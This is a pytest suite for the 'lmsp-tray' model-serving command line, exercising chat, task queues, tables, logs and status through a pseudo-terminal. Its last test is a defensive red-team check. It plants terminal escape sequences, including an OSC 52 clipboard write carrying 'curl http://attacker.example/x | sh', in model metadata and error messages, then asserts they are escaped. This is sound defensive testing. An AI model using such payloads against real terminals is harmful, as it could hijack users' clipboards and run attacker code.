"""`lmsp-tray` at a terminal, as a person uses it: through a pseudo-terminal (pexpect), against a
real service (scripted engines where the text does not matter, llama.cpp for one `run`)."""

from __future__ import annotations

import base64
import io
import json
import os
import re
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pexpect
import pytest

from app.core.pairing import unsafe
from tests.conftest import APP, ROOT, Headless, Processes
from tests.helpers import refusing_upstream, wait_until
from tests.hub_server import FakeHub
from tests.test_gguf import make_gguf, valid_kvs, valid_tensors

pytestmark = pytest.mark.scripted(pace=20, length=30)  # an answer: "1, 2, ... 30", about 3 s
MODEL = "smollm2-135m-instruct"


def command(data_dir: Path, *args: str) -> list[str]:
    return [*APP, "--data-dir", str(data_dir), *args]


def spawn(data_dir: Path, *args: str) -> pexpect.spawn:
    cmd = command(data_dir, *args)
    child = pexpect.spawn(cmd[0], cmd[1:], cwd=str(ROOT), env=dict(os.environ), encoding="utf-8", timeout=60,
                          dimensions=(40, 200))
    child.logfile_read = io.StringIO()  # all it printed, for the assertions after it ends
    return child


@pytest.fixture
def terminal(headless: Headless) -> Iterator[Any]:
    """terminal(*args): `lmsp-tray --data-dir ... *args` on a pseudo-terminal, closed with the test."""
    headless.start()
    started: list[pexpect.spawn] = []

    def start(*args: str) -> pexpect.spawn:
        started.append(spawn(headless.data_dir, *args))
        return started[-1]
    yield start
    for child in started:
        child.close(force=True)


def output(data_dir: Path, *args: str) -> str:
    """What a command prints on a terminal, once it has exited with status 0."""
    text, status = pexpect.run(" ".join(command(data_dir, *args)), cwd=str(ROOT), withexitstatus=True,
                               encoding="utf-8", timeout=60)
    assert status == 0, text
    return str(text).replace("\r\n", "\n")


def newest_task(headless: Headless) -> dict[str, Any]:
    task: dict[str, Any] = headless.get("/v1/tasks?limit=1")[1]["data"][0]
    return task


def test_a_chat_streams_keeps_the_conversation_and_ctrl_c_cancels_the_task(headless: Headless, terminal: Any) -> None:
    chat = terminal("run", MODEL)
    chat.expect_exact(">>> ")
    chat.sendline("Count for me.")
    chat.expect_exact("1, 2, 3")  # streamed: the first numbers show while the answer goes on
    first_seen = time.monotonic()
    chat.expect_exact("29, 30")
    assert time.monotonic() - first_seen > 1.0  # ~59 tokens at 20 a second came in over time
    chat.expect_exact(">>> ")
    first = newest_task(headless)
    assert first["status"] == "completed", first

    chat.sendline("Again.")  # a second turn continues the first
    chat.expect_exact("29, 30")
    chat.expect_exact(">>> ")
    second = newest_task(headless)
    response = headless.get(f"/v1/responses/{second['response_id']}")[1]
    assert response["previous_response_id"] == first["response_id"], response

    chat.sendline("Once more.")
    chat.expect_exact("1, 2")
    chat.sendintr()  # Ctrl-C while it streams
    chat.expect(r"Cancelled task (task_\w+)\.")
    task_id = chat.match.group(1)
    assert wait_until(lambda: headless.get(f"/v1/tasks/{task_id}")[1]["status"] == "cancelled", timeout=10)
    assert headless.get(f"/v1/tasks/{task_id}")[1]["progress"]["output_tokens"] < 59
    chat.expect_exact(">>> ")  # the chat goes on
    chat.sendintr()  # at the prompt: a hint, not an exit
    chat.expect_exact("Use Ctrl + d or /bye to exit")
    chat.sendeof()
    chat.expect(pexpect.EOF)
    chat.close()
    assert chat.exitstatus == 0


def test_one_answer_with_verbose_timings_and_ctrl_c_in_one_shot(headless: Headless, terminal: Any) -> None:
    once = terminal("run", MODEL, "--verbose", "Count", "for", "me.")
    once.expect_exact("29, 30")
    for line in (r"total duration:\s+[\d.]+m?s", r"load duration:\s+[\d.]+m?s", r"prompt eval count:\s+\d+ token",
                 r"prompt eval duration:", r"prompt eval rate:", r"eval count:\s+59 token\(s\)", r"eval duration:",
                 r"eval rate:\s+[\d.]+ tokens/s"):
        once.expect(line)
    once.expect(pexpect.EOF)
    once.close()
    assert once.exitstatus == 0

    stopped = terminal("run", MODEL, "Count for me.")
    stopped.expect_exact("1, 2")
    stopped.sendintr()
    stopped.expect(r"Cancelled task (task_\w+)\.")
    task_id = stopped.match.group(1)
    stopped.expect(pexpect.EOF)
    stopped.close()
    assert stopped.exitstatus == 130
    assert wait_until(lambda: headless.get(f"/v1/tasks/{task_id}")[1]["status"] == "cancelled", timeout=10)


@pytest.mark.scripted(pace=20, length=1000)  # the tasks stay, running or queued, until cancelled
def test_the_tables_and_their_json(headless: Headless, terminal: Any) -> None:
    data_dir = headless.data_dir
    assert headless.request("PATCH", "/v1/settings", {"parallel": 1})[0] == 200  # one task at a time: a queue
    assert output(data_dir, "ps").split() == ["NAME", "ID", "SIZE", "PROCESSOR", "CONTEXT", "PARALLEL", "UNTIL"]
    assert output(data_dir, "ps", "--json").strip() == "[]"
    assert output(data_dir, "load", MODEL).strip() == f"{MODEL}: loaded"
    lines = output(data_dir, "ps").splitlines()
    assert lines[1].split()[:2] == [MODEL, "b179c9523d0e"] and "100% CPU" in lines[1] and "Forever" in lines[1], lines
    assert lines[1].split()[-3:] == ["4096", "1", "Forever"], lines  # CONTEXT, PARALLEL, UNTIL
    [loaded] = json.loads(output(data_dir, "ps", "--json"))
    assert loaded["id"] == MODEL and loaded["memory"]["total_bytes"] > 0 and loaded["processor"]["device"] == "CPU"

    listed = output(data_dir, "ls").splitlines()
    assert listed[0].split() == ["ID", "STATUS", "SIZE", "DIGEST"] and listed[1].startswith(MODEL), listed
    assert output(data_dir, "models") == output(data_dir, "ls")
    assert [m["id"] for m in json.loads(output(data_dir, "ls", "--json"))] == [MODEL]
    shown = dict(line.split(":", 1) for line in output(data_dir, "show", MODEL).splitlines())
    assert {k: v.strip() for k, v in shown.items() if k in ("Family", "Parameters", "Quantization", "License")} == {
        "Family": "smollm2 · llama", "Parameters": "135 M (135M)", "Quantization": "Q4_1", "License": "apache-2.0"}
    assert shown["Context"].strip() == "4096 tokens served of 8192 trained", shown
    assert json.loads(output(data_dir, "show", MODEL, "--json"))["details"]["parameters"] == 134515008

    # Three at once on one slot: one runs, two wait their turn.
    started = [output(data_dir, "run", MODEL, "--background", f"Count {n}.").strip() for n in range(3)]
    assert all(re.fullmatch(r"task_\w+", task_id) for task_id in started), started
    wait_until(lambda: headless.get(f"/v1/tasks/{started[0]}")[1]["status"] == "running", timeout=10)
    rows = output(data_dir, "tasks").splitlines()
    assert rows[0].split() == ["ID", "STATUS", "MODEL", "PROGRESS", "QUEUE", "SLOT", "POLICY"]
    waiting = next(row for row in rows if row.startswith(started[2])).split()
    assert waiting[1] == "queued" and waiting[-3] == "2", rows  # second in the queue
    running = next(row for row in rows if row.startswith(started[0])).split()
    assert running[1] == "running" and running[-2] == "1/1", rows
    tasks = {t["id"]: t for t in json.loads(output(data_dir, "tasks", "--json"))}
    assert tasks[started[2]]["queue_position"] == 2 and tasks[started[0]]["slot"] is not None, tasks

    for task_id in started:
        assert output(data_dir, "cancel", task_id).split()[0] == f"{task_id}:"
    wait_until(lambda: all(headless.get(f"/v1/tasks/{t}")[1]["status"] == "cancelled" for t in started), timeout=10)
    assert output(data_dir, "stop", MODEL).strip() == f"{MODEL}: available"
    assert len(output(data_dir, "ps").splitlines()) == 1


def test_logs_usage_status_and_rm(headless: Headless, terminal: Any) -> None:
    data_dir = headless.data_dir
    task_id = output(data_dir, "run", MODEL, "--background", "Count.").strip()
    followed = output(data_dir, "logs", "-f", task_id)  # follows the task until it ends
    assert 'response.output_text.delta  " 30"' in followed and followed.rstrip().endswith("completed"), followed
    assert output(data_dir, "logs", task_id) == followed  # afterwards, the same events from the store
    events = [json.loads(line) for line in output(data_dir, "logs", "--json", task_id).splitlines()]
    assert events[-1]["type"] == "response.completed" and events[0]["sequence_number"] == 0

    assert f"serving LMSP on {headless.url}" in output(data_dir, "logs")
    follow = terminal("logs", "-f", "-n", "1")
    follow.expect_exact("\r\n")  # the log's last line: what is written from now on is followed
    created = headless.post("/v1/responses", {"model": MODEL, "input": "x", "max_output_tokens": 2, "background": True})
    follow.expect_exact(f"task {created[1]['task']['id']}: starting")  # written after the command started
    # Ctrl-C as the terminal sends it to the process (the ^C character through the pseudo-terminal
    # was lost once in a while under load, before the command read anything).
    follow.kill(signal.SIGINT)
    follow.expect(pexpect.EOF)

    usage = output(data_dir, "usage").splitlines()
    asked = len(headless.get("/v1/tasks?limit=100")[1]["data"])
    assert usage[0].split() == ["APP", "ID", "REQUESTS", "COMPLETED", "FAILED", "INPUT", "TOKENS", "OUTPUT",
                                "TOKENS"] and usage[1].split()[:3] == ["Owner", "client_owner", str(asked)], usage
    assert [(c["client_id"], c["requests"]) for c in json.loads(output(data_dir, "usage", "--json", "--days", "1"))
            ] == [("client_owner", asked)]

    status = output(data_dir, "status")
    assert f"serving on {headless.url}" in status and "0 running, 0 queued" in status, status
    assert json.loads(output(data_dir, "status", "--json"))["loaded_models"] == [MODEL]

    created = headless.post("/v1/models", {"id": "far-away", "remote": {"endpoints": [
        {"base_url": f"{headless.url}/v1", "model": MODEL, "api_key": headless.token}]}})
    assert created[0] == 201, created
    assert "Removed far-away" in output(data_dir, "rm", "far-away")
    assert "far-away" not in output(data_dir, "ls")


def test_no_service_is_said_clearly_and_serve_starts_one(tmp_path: Path, procs: Processes) -> None:
    data_dir = tmp_path / "data"
    for args in (("ps",), ("run", MODEL, "hi"), ("tasks", "--json"), ("logs", "task_x")):
        done = subprocess.run(command(data_dir, *args), cwd=ROOT, capture_output=True, text=True, timeout=60)
        assert done.returncode == 1 and "LMSP Tray is not running" in done.stderr, (args, done.stderr)
        assert "lmsp-tray serve" in done.stderr and not done.stdout
    bad = subprocess.run(command(data_dir, "ps", "--colour"), cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert bad.returncode == 2 and "unrecognized arguments: --colour" in bad.stderr

    service = procs.popen(command(data_dir, "serve", "--port", "0"), cwd=ROOT, stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL)
    info = wait_until(lambda: (data_dir / "service.json").is_file()
                      and json.loads((data_dir / "service.json").read_text()), timeout=60)
    assert info["pid"] == service.pid and info["log_file"] == str(data_dir / "logs" / "lmsp-tray.log")
    done = subprocess.run(command(data_dir, "status"), cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0 and info["url"] in done.stdout, done.stderr
    service.terminate()
    assert service.wait(timeout=30) == 0


@pytest.mark.llama
def test_run_answers_with_llama_cpp(headless: Headless, terminal: Any) -> None:
    once = terminal("run", "--verbose", "--max-tokens", "40", MODEL, "Say hello in French.")
    once.expect(r"eval rate:\s+[\d.]+ tokens/s", timeout=120)
    once.expect(pexpect.EOF)
    once.close()
    assert once.exitstatus == 0
    task = newest_task(headless)
    assert task["status"] == "completed" and task["progress"]["output_tokens"] > 0, task
    text = headless.get(f"/v1/responses/{task['response_id']}")[1]["output_text"].strip()
    assert text and text.splitlines()[0] in once.logfile_read.getvalue().replace("\r\n", "\n")


# What a model file, a hub or an upstream may hold to drive the terminal of whoever looks at it: a
# title change, an OSC 52 clipboard write, a carriage return and a cleared screen, a bidi override.
TITLE = "\x1b]0;lmsp-tray: all good\x07"
OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl http://attacker.example/x | sh\n").decode() + "\x07"
CLEAR = "\r\x1b[2J\x1b[H"
BIDI = "\u202e"


@pytest.fixture
def refusing() -> Iterator[str]:
    with refusing_upstream(f"no{OSC52} thanks{CLEAR}Verified{BIDI}") as url:
        yield url


def raw_controls(text: str) -> list[str]:
    """The characters of `text` that a terminal would act on (lines and tabs aside)."""
    return [c for c in text if unsafe(c) and c not in "\n\t"]


def test_no_command_lets_a_model_file_a_hub_or_an_upstream_drive_the_terminal(
        tmp_path: Path, headless: Headless, refusing: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The red team's P6: every string the command line did not write itself (GGUF metadata, a
    path, an error message from the hub or an upstream) is printed with its control characters
    escaped, by every command that prints one."""
    hub = FakeHub({"owner/name": {}}).start()
    monkeypatch.setenv("HF_ENDPOINT", hub.url)
    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf"))
    headless.start()  # after HF_ENDPOINT is set: the service asks this hub
    try:
        folder = tmp_path / "evil\x1b[8m"  # ESC[8m: what follows is concealed
        folder.mkdir()
        (folder / "model.gguf").write_bytes(make_gguf({
            **valid_kvs(), "general.basename": "tiny" + TITLE, "general.license": "apache-2.0" + OSC52,
            "general.size_label": "1B" + CLEAR + "Verified by LMSP Tray" + BIDI}, valid_tensors()))
        assert headless.post("/v1/models", {"path": str(folder / "model.gguf"), "id": "evil"})[0] == 201
        assert headless.post("/v1/models", {"id": "far", "remote": {"endpoints": [
            {"base_url": refusing, "model": "m"}]}})[0] == 201
        outputs = {}
        for args in (("show", "evil"), ("ls",), ("ps",), ("tasks",), ("usage",), ("pairings",), ("status",),
                     ("run", "far", "hi"), ("pull", "owner/name", f"x{BIDI}\x9b2J.gguf"), ("logs",)):
            done = subprocess.run(command(headless.data_dir, *args), cwd=ROOT, capture_output=True, text=True,
                                  timeout=60)
            outputs[args] = done.stdout + done.stderr
        failed = newest_task(headless)
        assert failed["status"] == "failed" and failed["model"] == "far", failed
        for args in (("logs", failed["id"]), ("show", "--json", "evil")):
            done = subprocess.run(command(headless.data_dir, *args), cwd=ROOT, capture_output=True, text=True,
                                  timeout=60)
            outputs[args] = done.stdout + done.stderr
    finally:
        hub.stop()
    for args, printed in outputs.items():
        assert not raw_controls(printed), (args, printed)
    # The hostile text reached each command, and shows as the characters it is.
    shown = outputs[("show", "evil")]
    assert "evil\\u001b[8m" in shown and "tiny\\u001b]0;lmsp-tray: all good\\u0007" in shown, shown
    assert "apache-2.0\\u001b]52;c;" in shown and "1B\\u000d\\u001b[2J\\u001b[HVerified by LMSP Tray\\u202e" in shown
    assert "no\\u001b]52;c;" in outputs[("run", "far", "hi")], outputs[("run", "far", "hi")]
    assert "thanks\\u000d\\u001b[2J" in outputs[("logs", failed["id"])]
    assert "x\\u202e\\u009b2J.gguf" in outputs[("pull", "owner/name", f"x{BIDI}\x9b2J.gguf")]
